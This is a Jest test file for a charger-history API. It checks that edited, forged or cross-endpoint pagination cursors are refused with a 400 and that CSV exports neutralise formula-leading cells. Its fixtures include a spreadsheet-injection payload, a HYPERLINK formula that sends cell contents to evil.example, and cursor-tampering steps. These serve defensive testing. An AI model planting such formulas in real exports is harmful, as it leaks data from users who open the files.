import { migrate } from '../../infra/database/migrate';
import { projectionMigrations } from '../../streams/projections/migrations';
import { projectionTables } from '../../streams/projections/tables';
import { insertRows } from '../../streams/sink/sql';
import { quoteIdent } from '../../services/common/db';
import { freshPgSchema, uniq } from '../support/stack';
import { startTestApi, TestApi } from '../api/harness';

/** The history API against a caller who edits what it hands back: tampered, forged and foreign cursors are a 400
 *  naming the cursor, never a 500 or someone else's page; CSV cells a spreadsheet would run as formulas are escaped. */
jest.setTimeout(120_000);

let t: TestApi;
let db: Awaited<ReturnType<typeof freshPgSchema>>;
const cp = uniq('CP-SEC');
const T0 = Date.parse('2026-03-01T06:00:00Z');
const min = 60_000;
const range = `from=${encodeURIComponent(new Date(T0 - 60 * min).toISOString())}&to=${encodeURIComponent(new Date(T0 + 120 * min).toISOString())}`;
const formulas = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+2', '-2+3', '@SUM(A1:A9)', '\tTAB', '\rCR'];

const insert = async (table: string, rows: Record<string, unknown>[]) => {
  const def = projectionTables.find((d) => d.name === table)!;
  const client = await db.pool.connect();
  try {
    await insertRows(client, { ...def, name: `${quoteIdent(db.schema)}.${table}` }, rows);
  } finally {
    client.release();
  }
};

/** A cursor in the unsigned format the API used to hand out: base64url of the JSON sort key. */
const unsignedCursor = (key: unknown[]) => Buffer.from(JSON.stringify(key)).toString('base64url');

beforeAll(async () => {
  db = await freshPgSchema('proj_sec');
  await migrate(db.pool, db.schema, projectionMigrations);
  await insert('charger_status_history', formulas.map((info, i) => ({ at: T0 + i * min, charge_point_id: cp, connector_id: 1, status: 'Faulted', error_code: 'OtherError', info, event_id: `ev-${i}` })));
  await insert('meter_values', [0, 1, 2].map((i) => ({ at: T0 + i * min, charge_point_id: cp, connector_id: 1, measurand: 'Power.Active.Export', unit: 'W', value: -3500.5 - i, event_id: `mv-${i}`, idx: 0 })));
  t = await startTestApi({ projectionSchema: db.schema, analyticsSchema: uniq('analytics_sec').replace(/-/g, '_') });
});

afterAll(async () => {
  await t?.stop();
  await db?.drop();
});

const expectCursorRefused = (r: { status: number; headers: Headers; json: { problems?: string[] } }) => {
  expect(r.status).toBe(400);
  expect(r.headers.get('content-type')).toContain('application/problem+json');
  expect(r.json.problems?.some((p) => p.startsWith('cursor:'))).toBe(true);
};

test('a cursor whose time was edited past bigint is a 400 naming the cursor, not a 500', async () => {
  const r = await t.call('GET', `/api/v1/chargers/${cp}/status?${range}&cursor=${unsignedCursor(['99999999999999999999999', 'ev-1'])}`);
  expectCursorRefused(r);
});

test('a cursor whose integer key was replaced by text is a 400, not a 500', async () => {
  const r = await t.call('GET', `/api/v1/chargers/${cp}/meter-values?${range}&cursor=${unsignedCursor([String(T0 * 1000), 'mv-0', 'zero'])}`);
  expectCursorRefused(r);
});

test('a well-formed cursor the API never issued is refused, and so is an issued one with its sort key edited', async () => {
  expectCursorRefused(await t.call('GET', `/api/v1/chargers/${cp}/status?${range}&cursor=${unsignedCursor([String(T0 * 1000), 'ev-0'])}`));
  const first = await t.call('GET', `/api/v1/chargers/${cp}/status?${range}&limit=2`);
  expect(first.status).toBe(200);
  const issued = first.json.nextCursor as string;
  expect((await t.call('GET', `/api/v1/chargers/${cp}/status?${range}&limit=2&cursor=${issued}`)).status).toBe(200);
  const [body, mac] = issued.split('.');
  const key = JSON.parse(Buffer.from(body!, 'base64url').toString('utf8')) as [string, string];
  const edited = `${Buffer.from(JSON.stringify([String(BigInt(key[0]) - 60_000_000n), key[1]])).toString('base64url')}.${mac}`;
  expectCursorRefused(await t.call('GET', `/api/v1/chargers/${cp}/status?${range}&limit=2&cursor=${edited}`));
});

test("another endpoint's cursor is refused", async () => {
  const status = await t.call('GET', `/api/v1/chargers/${cp}/status?${range}&limit=1`);
  const foreign = status.json.nextCursor as string;
  expect(foreign).toBeTruthy();
  expectCursorRefused(await t.call('GET', `/api/v1/sessions?${range}&cursor=${foreign}`));
});

test('CSV: text cells starting with = + - @ tab or CR get a leading quote; negative numbers stay numbers', async () => {
  const status = await t.call('GET', `/api/v1/chargers/${cp}/status?${range}&format=csv`);
  expect(status.status).toBe(200);
  const cells = status.text.trim().split('\r\n').slice(1).map((l) => l);
  // info is the sixth column; every formula lead is neutralised, and the cell still holds the original text after it.
  expect(status.text).not.toMatch(/(^|,)"?[=+\-@\t\r]/m);
  expect(status.text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
  expect(status.text).toContain(",'+1+2,");
  expect(status.text).toContain(",'-2+3,");
  expect(status.text).toContain(",'@SUM(A1:A9),");
  expect(cells).toHaveLength(formulas.length);
  const meter = await t.call('GET', `/api/v1/chargers/${cp}/meter-values?${range}`, { headers: { Accept: 'text/csv' } });
  const rows = meter.text.trim().split('\r\n');
  const valueAt = rows[0]!.split(',').indexOf('value');
  expect(rows.slice(1).map((r) => r.split(',')[valueAt])).toEqual(['-3500.5', '-3501.5', '-3502.5']);
});
